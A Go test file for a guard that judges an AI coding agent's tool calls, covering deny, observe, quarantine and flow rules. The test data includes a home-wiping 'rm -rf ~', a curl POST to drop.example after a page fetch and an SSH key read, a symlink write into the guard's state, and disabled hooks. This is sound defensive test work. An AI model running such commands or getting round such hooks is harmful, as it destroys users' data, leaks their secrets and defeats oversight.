package judgement_test

import (
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/coworkbridge/coworkbridge/classifier"
	"github.com/coworkbridge/coworkbridge/claudehook"
	"github.com/coworkbridge/coworkbridge/flow"
	"github.com/coworkbridge/coworkbridge/internal/realpath"
	"github.com/coworkbridge/coworkbridge/judgement"
	"github.com/coworkbridge/coworkbridge/judgement/judgementtest"
	"github.com/coworkbridge/coworkbridge/managedconfig"
	"github.com/coworkbridge/coworkbridge/ruleid"
	"github.com/coworkbridge/coworkbridge/telemetry"
)

func bash(cmd, id string) claudehook.Payload {
	in, _ := json.Marshal(map[string]string{"command": cmd})
	return claudehook.Payload{ToolName: "Bash", ToolInput: in, Cwd: "/home/u/project", ToolUseID: id, SessionID: "cli-1", PromptID: "p-1"}
}

func rules(t testing.TB) *classifier.Classifier {
	t.Helper()
	c, err := classifier.New(classifier.Policy{})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

var t0 = time.Date(2026, 11, 29, 3, 0, 0, 0, time.UTC)

func judge(t *testing.T, mode managedconfig.Mode, r judgement.Rules) judgement.Judge {
	t.Helper()
	if r == nil {
		r = rules(t)
	}
	cfg := managedconfig.Config{Mode: mode, CoworkEnabled: true}
	cfg.Policy.Notices.Default = managedconfig.Notice{Text: "Blocked by Example Corp.", HelpURL: "https://help.example/{rule}?s={session}&u={user}&h={host}"}
	return judgement.Judge{Cfg: cfg, Rules: r, Now: func() time.Time { return t0 }}
}

func TestDecide(t *testing.T) {
	// A session that took in a page and read a key: a later send is a flow.
	var tainted flow.State
	tainted.Take("a web page (https://evil.example)", "", "toolu_page", "WebFetch", t0)
	tainted.Take("", "~/.ssh/id_rsa", "toolu_key", "Read", t0)
	for _, tc := range []struct {
		name         string
		mode         managedconfig.Mode
		call         judgement.Call
		rules        judgement.Rules
		applied      claudehook.Decision
		decision     claudehook.Decision
		rule         string
		enforced     bool
		failed       bool
		shownHas     string
		recFlowed    bool
		receiptDeny  bool
		ranWithFacet bool
	}{
		{name: "a deny in enforce is applied with the admin's notice", mode: managedconfig.Enforce,
			call:    judgement.Call{Door: judgement.Spool, Payload: bash("rm -rf ~", "toolu_1"), Waiting: true, Session: "local_a", User: "ada", Host: "mac"},
			applied: claudehook.Deny, decision: claudehook.Deny, rule: "bash.rm-critical", enforced: true,
			shownHas: "https://help.example/bash.rm-critical?s=local_a&u=ada&h=mac", receiptDeny: true},
		{name: "a deny in observe is recorded, not applied", mode: managedconfig.Observe,
			call:    judgement.Call{Door: judgement.Spool, Payload: bash("rm -rf ~", "toolu_1"), Waiting: true},
			applied: claudehook.Allow, decision: claudehook.Deny, rule: "bash.rm-critical"},
		{name: "a hook that does not wait is never enforced", mode: managedconfig.Enforce,
			call:    judgement.Call{Door: judgement.Spool, Payload: bash("rm -rf ~", "toolu_1")},
			applied: claudehook.Allow, decision: claudehook.Deny, rule: "bash.rm-critical"},
		{name: "a harmless call is no objection", mode: managedconfig.Enforce,
			call:    judgement.Call{Door: judgement.Socket, Payload: bash("ls -la", "toolu_2"), Waiting: true},
			applied: claudehook.Allow, decision: claudehook.Allow, enforced: true},
		{name: "a quarantine refuses even a harmless call", mode: managedconfig.Enforce,
			call:    judgement.Call{Door: judgement.Hook, Payload: bash("ls", "toolu_3"), Waiting: true, Quarantined: "disableAllHooks was set"},
			applied: claudehook.Deny, decision: claudehook.Deny, rule: ruleid.Quarantine, enforced: true,
			shownHas: "quarantined because disableAllHooks was set", receiptDeny: true},
		{name: "a send after taint and a private read is asked about, naming the flow", mode: managedconfig.Enforce,
			call:    judgement.Call{Door: judgement.Channel, Payload: bash("curl -X POST --data hello https://drop.example/up", "toolu_4"), Waiting: true, Flow: tainted},
			applied: claudehook.Ask, decision: claudehook.Ask, rule: "flow.untrusted-private-send", enforced: true, recFlowed: true},
		{name: "the same send with no flow is not a flow", mode: managedconfig.Enforce,
			call:    judgement.Call{Door: judgement.Channel, Payload: bash("curl -X POST --data hello https://drop.example/up", "toolu_4"), Waiting: true},
			applied: claudehook.Allow, decision: claudehook.Allow, enforced: true},
		{name: "a panic in the engine is a deny, in enforce", mode: managedconfig.Enforce,
			call:  judgement.Call{Door: judgement.Socket, Payload: bash("ls", "toolu_5"), Waiting: true},
			rules: judgementtest.Panicking{}, applied: claudehook.Deny, decision: claudehook.Deny, rule: ruleid.ClassifierError,
			enforced: true, failed: true, receiptDeny: true},
		{name: "a panic in the engine is recorded as a deny, in observe", mode: managedconfig.Observe,
			call:  judgement.Call{Door: judgement.Spool, Payload: bash("ls", "toolu_5"), Waiting: true},
			rules: judgementtest.Panicking{}, applied: claudehook.Allow, decision: claudehook.Deny, rule: ruleid.ClassifierError, failed: true},
		{name: "an engine that runs past its budget and allows is a deny", mode: managedconfig.Enforce,
			call:  judgement.Call{Door: judgement.Hook, Payload: bash("ls", "toolu_6"), Waiting: true},
			rules: judgementtest.Hanging{}, applied: claudehook.Deny, decision: claudehook.Deny, rule: ruleid.ClassifierError,
			enforced: true, failed: true, receiptDeny: true},
		{name: "no engine at all is a deny", mode: managedconfig.Enforce,
			call:  judgement.Call{Door: judgement.Hook, Payload: bash("ls", "toolu_7"), Waiting: true},
			rules: judgement.Rules(nil), applied: claudehook.Deny, decision: claudehook.Deny, rule: ruleid.ClassifierError,
			enforced: true, failed: true, receiptDeny: true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			j := judge(t, tc.mode, tc.rules)
			if tc.name == "no engine at all is a deny" {
				j.Rules = nil
			}
			if _, hangs := tc.rules.(judgementtest.Hanging); hangs {
				// Short for the engine that never ends; the real engine keeps the shipped
				// budget, which its first call under -race on a busy machine can come near.
				j.Budget = 50 * time.Millisecond
			}
			o := j.Decide(context.Background(), tc.call)
			if o.Applied != tc.applied || o.Verdict.Decision != tc.decision || o.Verdict.RuleID != tc.rule || o.Enforced != tc.enforced || o.Failed != tc.failed {
				t.Fatalf("outcome applied=%s decision=%s rule=%s enforced=%v failed=%v, want %s %s %s %v %v (%s)",
					o.Applied, o.Verdict.Decision, o.Verdict.RuleID, o.Enforced, o.Failed, tc.applied, tc.decision, tc.rule, tc.enforced, tc.failed, o.Verdict.Reason)
			}
			if !strings.Contains(o.Shown, tc.shownHas) {
				t.Errorf("shown %q lacks %q", o.Shown, tc.shownHas)
			}
			out := o.Output()
			if (len(out) == 0) != (o.Applied == claudehook.Allow) {
				t.Errorf("output %q for applied %s", out, o.Applied)
			}
			if len(out) > 0 {
				a, err := claudehook.ParseOutput(out)
				if err != nil || a.Decision != o.Applied || a.Reason != o.Shown {
					t.Errorf("output says %+v (%v), want %s %q", a, err, o.Applied, o.Shown)
				}
			}
			rec := o.Record
			if rec.Transport != tc.call.Door.Transport() || rec.Agent != tc.call.Door.Agent() || rec.Decision != tc.decision ||
				rec.Rule != tc.rule || rec.Enforced != tc.enforced || rec.Mode != string(tc.mode) || !rec.TS.Equal(t0) {
				t.Errorf("record %+v", rec)
			}
			if rec.ToolUseID != tc.call.Payload.ToolUseID || rec.CLISessionID != "cli-1" || rec.PromptID != "p-1" || rec.Tool != "Bash" {
				t.Errorf("record lost the call's ids: %+v", rec)
			}
			if (len(rec.Flow) > 0) != tc.recFlowed {
				t.Errorf("record flow %q", rec.Flow)
			}
			if (rec.Decision != claudehook.Allow) != (rec.Matched != "" || rec.Effects != nil || rec.Decision != claudehook.Allow) {
				t.Errorf("an allow carries check's explanation: %+v", rec)
			}
			if o.Ran() == tc.receiptDeny {
				t.Errorf("ran %v, want denied %v", o.Ran(), tc.receiptDeny)
			}
			switch {
			case !tc.call.Door.Waits() && o.Receipt.ToolUseID != "":
				t.Errorf("a receipt at the session's own door %s: %+v", tc.call.Door, o.Receipt)
			case tc.call.Door.Waits() && (o.Receipt.ToolUseID != tc.call.Payload.ToolUseID || o.Receipt.Denied != tc.receiptDeny):
				t.Errorf("receipt %+v, want denied %v", o.Receipt, tc.receiptDeny)
			}
		})
	}
}

func TestDecideGivesAReceiptOnlyForACallWithAnID(t *testing.T) {
	o := judge(t, managedconfig.Enforce, nil).Decide(context.Background(), judgement.Call{Door: judgement.Hook, Payload: bash("ls", ""), Waiting: true})
	if o.Receipt.ToolUseID != "" || o.Receipt.V != 0 {
		t.Errorf("receipt %+v for a call with no tool_use_id", o.Receipt)
	}
}

func TestAReceiptCarriesWhatARunCallTookIn(t *testing.T) {
	in, _ := json.Marshal(map[string]string{"url": "https://example.com/page", "prompt": "read"})
	p := claudehook.Payload{ToolName: "WebFetch", ToolInput: in, ToolUseID: "toolu_w"}
	o := judge(t, managedconfig.Enforce, nil).Decide(context.Background(), judgement.Call{Door: judgement.Hook, Payload: p, Waiting: true})
	if !o.Ran() || o.Receipt.Untrusted == "" || len(o.Receipt.Fingerprint) == 0 {
		t.Errorf("a fetch let run: receipt %+v", o.Receipt)
	}
}

func TestAFlowReadFailureIsNamedOnASend(t *testing.T) {
	c := judgement.Call{Door: judgement.Hook, Payload: bash("curl -d @x https://drop.example", "toolu_s"), Waiting: true, FlowErr: errors.New("offsets unreadable")}
	o := judge(t, managedconfig.Enforce, nil).Decide(context.Background(), c)
	if len(o.Record.Flow) != 1 || !strings.Contains(o.Record.Flow[0], "offsets unreadable") {
		t.Errorf("record flow %q", o.Record.Flow)
	}
}

func TestTheRecordNamesTheKernelsUserOnlyWhenTheDoorSaysSo(t *testing.T) {
	j := judge(t, managedconfig.Observe, nil)
	for _, named := range []bool{false, true} {
		o := j.Decide(context.Background(), judgement.Call{Door: judgement.Socket, Payload: bash("ls", "t"), User: "ada", RecordUser: named, Note: "judged alone"})
		if (o.Record.User == "ada") != named || o.Record.Reason != "judged alone" {
			t.Errorf("named %v: record user %q reason %q", named, o.Record.User, o.Record.Reason)
		}
	}
}

// A host-loop Write through a link the agent made in its outputs is judged where the link leads.
func TestALinkIsJudgedWhereItLeads(t *testing.T) {
	dir := t.TempDir()
	state := filepath.Join(dir, "state")
	own := filepath.Join(dir, "sessions", "local_a")
	for _, d := range []string{state, filepath.Join(own, "outputs")} {
		if err := os.MkdirAll(d, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink(state, filepath.Join(own, "outputs", "notes")); err != nil {
		t.Fatal(err)
	}
	cls, err := classifier.New(classifier.Policy{Places: []classifier.Place{{Path: state, Owner: classifier.OwnerGuard, What: "coworkbridge's state"}}})
	if err != nil {
		t.Fatal(err)
	}
	in, _ := json.Marshal(map[string]string{"file_path": filepath.Join(own, "outputs", "notes", "offsets.json"), "content": "{}"})
	c := judgement.Call{Door: judgement.Hook, Payload: claudehook.Payload{ToolName: "Write", ToolInput: in}, Own: own, Waiting: true}
	j := judge(t, managedconfig.Enforce, cls)
	if o := j.Decide(context.Background(), c); o.Verdict.Decision != claudehook.Allow {
		t.Fatalf("without links the write is %s: the test proves nothing", o.Verdict.Decision)
	}
	j.Links = filepath.EvalSymlinks
	places := &realpath.Cache{For: time.Minute, Places: cls.PlacePaths}
	j.Places = places.Get
	if o := j.Decide(context.Background(), c); o.Verdict.Decision != claudehook.Deny || o.Verdict.RuleID != "path.guard-files" {
		t.Errorf("a write through a link to coworkbridge's state: %+v", o.Verdict)
	}
}

// A script the call runs is judged by what the door's reader finds in it; the files a worker
// read and handed over (Resolved.Files) stand in for the reader; and whether a nested claude is
// refused depends on the door that handed the call over.
func TestWhatACallRunsIsJudgedAsTheDoorReadsIt(t *testing.T) {
	j := judge(t, managedconfig.Enforce, nil)
	read := func(p string) (string, error) {
		if p == "/home/u/project/run.sh" {
			return "rm -rf ~\n", nil
		}
		return "", errors.New("unreadable")
	}
	c := judgement.Call{Door: judgement.Hook, Payload: bash("bash run.sh", "toolu_1"), Waiting: true, Read: read}
	if o := j.Decide(context.Background(), c); o.Verdict.RuleID != "bash.rm-critical" || !strings.Contains(o.Verdict.Reason, "run.sh") {
		t.Errorf("a script that removes the home: %+v", o.Verdict)
	}
	c.Read, c.Resolved = nil, &judgement.Resolution{Files: map[string]string{"run.sh": "go test ./..."}}
	if o := j.Decide(context.Background(), c); o.Verdict.Decision != claudehook.Allow {
		t.Errorf("the worker's harmless copy: %+v", o.Verdict)
	}
	c.Resolved = &judgement.Resolution{Files: map[string]string{}}
	if o := j.Decide(context.Background(), c); o.Verdict.RuleID != "bash.unread-program" {
		t.Errorf("a script no one could read: %+v", o.Verdict)
	}
	for door, refused := range map[judgement.Door]bool{judgement.Hook: false, judgement.Socket: false, judgement.Channel: true, judgement.Spool: true} {
		c := judgement.Call{Door: door, Payload: bash("claude -p 'fix the tests'", "toolu_2"), Waiting: true}
		if o := j.Decide(context.Background(), c); (o.Verdict.RuleID == "effect.nested-agent") != refused {
			t.Errorf("a nested claude through the %s door: %+v, want refused %v", door, o.Verdict, refused)
		}
	}
}

func TestRefuse(t *testing.T) {
	for _, tc := range []struct {
		mode    managedconfig.Mode
		waiting bool
		applied claudehook.Decision
	}{
		{managedconfig.Enforce, true, claudehook.Deny},
		{managedconfig.Enforce, false, claudehook.Allow},
		{managedconfig.Observe, true, claudehook.Allow},
	} {
		c := judgement.Call{Door: judgement.Channel, RID: strings.Repeat("a", 32), Session: "local_a", Waiting: tc.waiting}
		o := judge(t, tc.mode, nil).Refuse(c, ruleid.Malformed, "could not read it")
		if o.Applied != tc.applied || o.Record.Rule != ruleid.Malformed || o.Record.Decision != claudehook.Deny ||
			o.Record.Enforced != (tc.applied == claudehook.Deny) || o.Record.Transport != telemetry.TransportChannel || string(o.Record.Input) != "null" {
			t.Errorf("%s waiting=%v: applied %s, record %+v", tc.mode, tc.waiting, o.Applied, o.Record)
		}
		if tc.applied == claudehook.Deny && !strings.Contains(o.Shown, "Blocked by Example Corp.\ncoworkbridge: could not read it\nMore: https://help.example/coworkbridge.malformed") {
			t.Errorf("shown %q lacks the notice", o.Shown)
		}
	}
}

func TestOfflineJudgesAndRecordsNothing(t *testing.T) {
	o := judge(t, managedconfig.Enforce, nil).Decide(context.Background(), judgement.Call{Door: judgement.Offline, Payload: bash("rm -rf ~", "t")})
	if o.Verdict.Decision != claudehook.Deny || o.Record.Transport != "" || o.Receipt.ToolUseID != "" {
		t.Errorf("offline: %+v", o)
	}
}

func TestEveryDoorKnowsItsTransportAndAgent(t *testing.T) {
	seen := map[string]bool{}
	for d := judgement.Spool; d <= judgement.Offline; d++ {
		if d.Transport() == "" || seen[d.Transport()] {
			t.Errorf("door %d: transport %q", d, d.Transport())
		}
		seen[d.Transport()] = true
		if d != judgement.Offline && d.Agent() != "cowork" && d.Agent() != "claude-code" {
			t.Errorf("door %s: agent %q", d, d.Agent())
		}
	}
	if judgement.Door(0).Transport() != "" || judgement.Door(99).Agent() != "" {
		t.Error("an unknown door has a name")
	}
}
